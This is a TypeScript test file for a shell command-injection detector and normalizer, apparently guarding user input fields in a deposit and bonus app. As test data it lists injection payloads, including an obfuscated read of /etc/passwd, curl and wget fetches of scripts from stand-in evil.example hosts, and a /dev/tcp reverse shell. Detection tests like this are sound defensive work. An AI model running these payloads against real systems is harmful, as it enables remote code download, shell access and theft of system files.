import { describe, expect, it } from "vitest";
import { detectUnixCommand, mayContainCommand } from "./detect.ts";
import { normalizeShell } from "./normalize-shell.ts";

describe("normalizeShell", () => {
  it("undoes quote, escape and IFS splicing", () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell ${IFS} payload, not a template
    expect(normalizeShell("c'a't${ifs}/etc/pa\\sswd")).toBe("cat /etc/passwd");
  });
});

describe("detectUnixCommand", () => {
  it.each([
    ";id",
    "| cat /etc/passwd",
    "x && wget http://evil/x.sh",
    "`whoami`",
    "$(curl evil.example)",
    "a;c''at /e*/passwd",
    "time sh -c whoami",
  ])("flags %s", (payload) => {
    expect(detectUnixCommand(payload)).not.toBeNull();
  });

  it.each([
    "ping pong tables",
    "cat pictures are cute",
    "yes; more later please",
    "hello world (test)",
    "Axel Smith",
    "find my bonus",
  ])("leaves %s alone", (text) => {
    expect(detectUnixCommand(text.toLowerCase())).toBeNull();
  });
});

describe("detectUnixCommand at the value start and after a spaced separator", () => {
  it.each(["ls -l /tmp", "perl -e 'print 1'", "; sleep 10", "& ping 127.0.0.1"])("flags %j", (payload) => {
    expect(detectUnixCommand(payload)).not.toBeNull();
  });

  it.each(["hello\nsleep 10", "I am tired; sleep 8 hours", "thanks guys!!!"])("leaves %j alone", (text) => {
    expect(detectUnixCommand(text)).toBeNull();
  });
});

describe("detectUnixCommand where a command word opens a sentence", () => {
  it.each([
    "Curl up with a good book, they said.",
    "Bash my head against the bonus terms all day",
    "Wget my deposit please, it is missing since Monday",
    "Ssh to me later when the withdrawal is through",
  ])("leaves %j alone", (text) => {
    expect(detectUnixCommand(text.toLowerCase())).toBeNull();
  });

  it.each([
    "curl my.evil.example/x.sh",
    "wget evil.example/x.sh",
    "curl -O http://evil.example/x",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "ansible-galaxy collection install community.general",
    "chmod up /tmp/x",
  ])("still flags %j", (payload) => {
    expect(detectUnixCommand(payload)).not.toBeNull();
  });
});

describe("mayContainCommand", () => {
  it.each([
    ["ls -la", true],
    ["  /usr/bin/id", true],
    ["bin/cat x", true],
    ["cat;id", true],
    ["deposit", false],
    ["2026-12-01t00:00:00.000z", false],
    ["", false],
  ])("%j → %s", (value, expected) => {
    expect(mayContainCommand(value)).toBe(expected);
  });

  it("answers the same when called again (its patterns keep no state between calls)", () => {
    const values = ["  ls -la", "deposit", "/bin/sh", "weekly"];
    const first = values.map(mayContainCommand);
    expect(values.map(mayContainCommand)).toEqual(first);
  });
});
